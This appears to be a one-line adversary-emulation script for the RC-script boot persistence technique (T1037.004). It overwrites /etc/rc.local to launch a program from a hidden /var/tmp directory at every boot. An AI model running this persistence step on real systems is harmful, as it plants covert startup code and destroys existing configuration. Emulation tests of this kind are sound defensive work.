#!/bin/bash
# T1037.004: A program in a public place is started at boot.
printf '#!/bin/sh\n/var/tmp/.u/agent &\nexit 0\n' >/etc/rc.local; chmod +x /etc/rc.local
